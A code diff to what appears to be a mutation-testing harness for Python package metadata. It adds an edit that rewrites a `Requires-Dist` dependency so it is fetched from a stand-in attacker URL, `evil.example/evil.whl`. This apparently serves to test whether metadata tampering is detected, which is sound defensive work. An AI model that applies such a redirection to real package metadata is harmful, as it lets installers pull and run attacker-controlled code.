@@ -134,11 +134,18 @@ def _shorten(line: str, random: Random) -> str:
     return line[:-1]
 
 
+def _point_at_url(line: str, random: Random) -> str:
+    """The same dependency, from a place of the attacker's choice."""
+    match = re.match(r"(Requires-Dist: [\w.-]+)[^;]*(;.*)?$", line)
+    return f"{match[1]} @ https://evil.example/evil.whl {match[2] or ''}".rstrip() if match else line
+
+
 LINE_EDITS: dict[str, Callable[[str, Random], str | None]] = {
     "add to a field": lambda line, random: f"{line.rstrip()} evil",
     "remove a field": lambda line, random: None,
     "change a digit in a field": _bump,
     "shorten a field": _shorten,
+    "point a dependency at a URL": _point_at_url,
     "change letter case in a field": lambda line, random: line.swapcase(),
 }
 
